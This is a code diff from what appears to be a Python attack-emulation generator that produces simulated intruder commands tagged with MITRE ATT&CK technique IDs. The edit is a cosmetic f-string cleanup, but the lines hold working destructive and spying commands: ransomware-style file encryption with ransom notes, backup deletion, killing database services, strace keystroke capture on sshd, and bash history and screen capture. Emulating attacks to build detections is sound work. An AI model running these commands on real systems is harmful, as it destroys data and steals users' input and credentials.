@@ -371,7 +371,7 @@ def encrypt_files(i: Intruder) -> list[str]:
     for number in range(v.randint(6, 25)):
         i.plan.files[f"/srv/{v.word(1)}/{v.word()}{number}.{v.choice(['docx', 'xlsx', 'pdf', 'sql', 'jpg'])}"] = v.hex(300)
     ext = v.choice(["locked", "enc", v.word(1), "crypt"])
-    return [v.choice([f"find /srv -type f ! -name '*.{ext}' | while read f; do openssl enc -aes-256-cbc -pbkdf2 -k {v.hex(16)} -in \"$f\" -out \"$f.{ext}\" && rm -f \"$f\"; done", f"python3 -c \"import os\nfor r,d,fs in os.walk('/srv'):\n  for f in fs:\n    p=os.path.join(r,f);b=open(p,'rb').read();open(p+'.{ext}','wb').write(bytes(x^91 for x in b));os.remove(p)\n  open(os.path.join(r,'README_{v.word(1)}.txt'),'w').write('pay')\"", f"for f in /srv/*/*; do gzip -c $f > $f.{ext}; shred -u $f; done"]), *v.some([f"echo pay > /srv/HOW_TO.txt; echo pay > /etc/motd", "rm -rf /var/backups/*", "find / -name '*.bak' -delete 2>/dev/null", "pkill -9 mysqld; pkill -9 postgres; systemctl stop mysql docker"], 1, 3)]
+    return [v.choice([f"find /srv -type f ! -name '*.{ext}' | while read f; do openssl enc -aes-256-cbc -pbkdf2 -k {v.hex(16)} -in \"$f\" -out \"$f.{ext}\" && rm -f \"$f\"; done", f"python3 -c \"import os\nfor r,d,fs in os.walk('/srv'):\n  for f in fs:\n    p=os.path.join(r,f);b=open(p,'rb').read();open(p+'.{ext}','wb').write(bytes(x^91 for x in b));os.remove(p)\n  open(os.path.join(r,'README_{v.word(1)}.txt'),'w').write('pay')\"", f"for f in /srv/*/*; do gzip -c $f > $f.{ext}; shred -u $f; done"]), *v.some(["echo pay > /srv/HOW_TO.txt; echo pay > /etc/motd", "rm -rf /var/backups/*", "find / -name '*.bak' -delete 2>/dev/null", "pkill -9 mysqld; pkill -9 postgres; systemctl stop mysql docker"], 1, 3)]
 
 
 @technique("T1485", "wipe")
@@ -417,7 +417,7 @@ def tunnel(i: Intruder) -> list[str]:
 @technique("T1113", "collect_input")
 def collect_input(i: Intruder) -> list[str]:
     d = i.den
-    return i.vary.choice([[f"mkdir -p {d}; timeout 1 script -qc id {d}/.tty", f"cat {d}/.tty | head -1"], [f"mkdir -p {d}; timeout 1 strace -f -e trace=read,write -o {d}/.st -p $(pgrep -o sshd) 2>/dev/null"], [f"echo 'PROMPT_COMMAND=\"history -a >(tee -a {d}/.h)\"' >> /etc/bash.bashrc"], [f"import -window root {d}/s.png 2>/dev/null; xwd -root -out {d}/s.xwd 2>/dev/null", f"cat /dev/input/event0 2>/dev/null | head -c 10"]])
+    return i.vary.choice([[f"mkdir -p {d}; timeout 1 script -qc id {d}/.tty", f"cat {d}/.tty | head -1"], [f"mkdir -p {d}; timeout 1 strace -f -e trace=read,write -o {d}/.st -p $(pgrep -o sshd) 2>/dev/null"], [f"echo 'PROMPT_COMMAND=\"history -a >(tee -a {d}/.h)\"' >> /etc/bash.bashrc"], [f"import -window root {d}/s.png 2>/dev/null; xwd -root -out {d}/s.xwd 2>/dev/null", "cat /dev/input/event0 2>/dev/null | head -c 10"]])
 
 
 @technique("T1190", "probe_services")
